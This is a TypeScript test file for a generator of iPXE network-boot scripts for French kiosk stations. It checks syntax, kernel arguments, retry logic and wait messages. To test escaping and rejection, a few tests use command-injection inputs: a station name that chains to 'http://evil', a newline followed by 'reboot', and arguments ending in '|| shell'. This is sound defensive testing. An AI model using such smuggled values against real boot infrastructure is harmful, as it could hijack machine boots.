import { describe, expect, it } from 'vitest';
import { kernelCommandLine, renderBootScript, renderUnsupportedArchScript, renderWaitScript, scriptText, type BootScriptInput, type WaitReason } from './ipxe-script.ts';

const BASE = 'http://192.168.50.1:8080';
const FILES = `${BASE}/boot/images/debian-kiosk/2026.03.1`;
const NONCE = 'en_3q2-7wEvY6GJhKf0dQ9xL1mZpR4sTuVbNcXaHjKlMnO';

function bootInput(arch: string): BootScriptInput {
  return {
    station: { name: 'Poste 12', mac: '52:54:00:12:ab:cd' },
    arch,
    profile: { name: 'Kiosque public', source: 'group' },
    image: { name: 'debian-kiosk', version: '2026.03.1' },
    kernelUrl: `${FILES}/vmlinuz`,
    initrdUrl: `${FILES}/initrd.img`,
    initrdName: 'initrd.img',
    squashfsUrl: `${FILES}/filesystem.squashfs`,
    kernelArgs: 'boot=live components quiet locales=fr_FR.UTF-8 keyboard-layouts=fr',
    serverUrl: BASE,
    nonce: NONCE,
    nonceExpiresAt: Date.parse('2026-03-02T08:15:00Z'),
    scriptUrl: `${BASE}/boot/ipxe?mac=52:54:00:12:ab:cd&arch=${arch}`,
    timing: { retries: 3, retryDelaySeconds: 5, pendingRetrySeconds: 30, failedWaitSeconds: 60 },
  };
}

/** Lines that run a command which can fail: each must carry a failure branch, or iPXE aborts the script. */
const FALLIBLE = /^(kernel|initrd|boot|chain|sleep|imgfree|iseq)\b/;

function checkSyntax(script: string): void {
  const lines = script.split('\n');
  expect(lines[0]).toBe('#!ipxe');
  expect(script.endsWith('\n')).toBe(true);
  expect(/^[\x20-\x7e\n]*$/.test(script), 'ASCII only (the BIOS console is code page 437)').toBe(true);
  const labels = new Set(lines.filter((l) => l.startsWith(':')).map((l) => l.slice(1)));
  for (const line of lines) {
    if (FALLIBLE.test(line)) expect(line, line).toMatch(/ \|\|( goto [a-z-]+)?$/);
    const target = /goto ([a-z-]+)/.exec(line)?.[1];
    if (target !== undefined) expect(labels.has(target), `label ${target}`).toBe(true);
    // `$` only in the script's own counter.
    expect(line.replaceAll('${epnbox-try}', ''), line).not.toContain('$');
  }
}

describe('renderBootScript (golden files)', () => {
  it.each(['bios', 'efi64'])('%s', async (arch) => {
    const script = renderBootScript(bootInput(arch));
    checkSyntax(script);
    await expect(script).toMatchFileSnapshot(`./testdata/boot-${arch}.ipxe`);
  });

  it('puts initrd=<name>, the live-boot fetch= URL, the server and the nonce on the kernel line', () => {
    for (const arch of ['bios', 'efi64', 'unknown']) {
      const kernelLine = renderBootScript(bootInput(arch)).split('\n').find((l) => l.startsWith('kernel '))!;
      expect(kernelLine).toBe(
        `kernel ${FILES}/vmlinuz initrd=initrd.img boot=live components quiet locales=fr_FR.UTF-8 keyboard-layouts=fr fetch=${FILES}/filesystem.squashfs epnbox.server=${BASE} epnbox.enroll=${NONCE} || goto epnbox-wait`,
      );
    }
  });

  it('names the initrd as the kernel line says, retries N times, then shows a message and starts over', () => {
    const input = { ...bootInput('efi64'), initrdName: 'initrd.img-6.12.0-amd64', initrdUrl: `${FILES}/initrd.img-6.12.0-amd64`, timing: { retries: 5, retryDelaySeconds: 7, pendingRetrySeconds: 30, failedWaitSeconds: 120 } };
    const script = renderBootScript(input);
    expect(script).toContain('initrd=initrd.img-6.12.0-amd64 ');
    expect(script).toContain(`initrd --name initrd.img-6.12.0-amd64 ${FILES}/initrd.img-6.12.0-amd64 || goto epnbox-wait\n`);
    expect(script).toContain('iseq ${epnbox-try} 5 && goto epnbox-failed ||\n');
    expect(script).toContain('sleep 7 ||\ngoto epnbox-retry\n');
    expect(script).toContain("echo Ce poste n'a pas pu demarrer apres 5 essais.\n");
    expect(script).toContain(`sleep 120 ||\nchain --replace --autofree ${BASE}/boot/ipxe?mac=52:54:00:12:ab:cd&arch=efi64 || goto epnbox-failed\n`);
  });

  it('cannot be broken out of by a station or profile name', () => {
    const script = renderBootScript({ ...bootInput('bios'), station: { name: 'Poste ${x} || chain http://evil ; é #1', mac: '52:54:00:12:ab:cd' }, profile: { name: 'P\nreboot', source: 'station' } });
    checkSyntax(script);
    expect(script).not.toMatch(/\|\| chain http:\/\/evil/);
    expect(script).not.toMatch(/^reboot/m);
    expect(scriptText('Poste ${x} || chain http://evil ; é #1')).toBe('Poste __x_ __ chain http://evil _ e _1');
  });

  it('refuses unsafe URLs or arguments instead of writing them into a script', () => {
    expect(() => renderBootScript({ ...bootInput('bios'), kernelUrl: 'http://x/vmlinuz || shell' })).toThrow(/unsafe/);
    expect(() => kernelCommandLine({ ...bootInput('bios'), kernelArgs: 'quiet $x' })).toThrow(/unsafe/);
    expect(() => renderBootScript({ ...bootInput('bios'), arch: 'efi64 && shell' })).toThrow(/unsafe/);
  });
});

describe('renderWaitScript (golden files)', () => {
  const reasons: WaitReason[] = ['pending', 'busy', 'no_profile', 'image_unavailable', 'unavailable'];
  it.each(reasons)('%s', async (reason) => {
    const script = renderWaitScript({
      reason,
      mac: '52:54:00:12:ab:cd',
      station: reason === 'busy' ? null : { name: 'poste-12abcd', mac: '52:54:00:12:ab:cd' },
      image: reason === 'image_unavailable' ? { name: 'debian-kiosk', version: '2026.03.1' } : null,
      scriptUrl: `${BASE}/boot/ipxe?mac=52:54:00:12:ab:cd&arch=efi64`,
      retrySeconds: 30,
    });
    checkSyntax(script);
    await expect(script).toMatchFileSnapshot(`./testdata/wait-${reason}.ipxe`);
  });

  it("says «poste en attente d'approbation» in French first, then English", () => {
    const script = renderWaitScript({ reason: 'pending', mac: '52:54:00:12:ab:cd', station: { name: 'poste-12abcd', mac: '52:54:00:12:ab:cd' }, image: null, scriptUrl: `${BASE}/boot/ipxe?mac=52:54:00:12:ab:cd&arch=bios`, retrySeconds: 30 });
    expect(script.indexOf("Poste en attente d'approbation")).toBeGreaterThan(0);
    expect(script.indexOf("Poste en attente d'approbation")).toBeLessThan(script.indexOf('Station awaiting approval'));
  });
});

describe('renderUnsupportedArchScript (golden file)', () => {
  it('explains and hands back to the firmware', async () => {
    const script = renderUnsupportedArchScript({ mac: '52:54:00:12:ab:cd', arch: 'arm64-efi' });
    checkSyntax(script);
    expect(script.trimEnd().endsWith('exit 1')).toBe(true);
    await expect(script).toMatchFileSnapshot('./testdata/unsupported-arch.ipxe');
  });
});
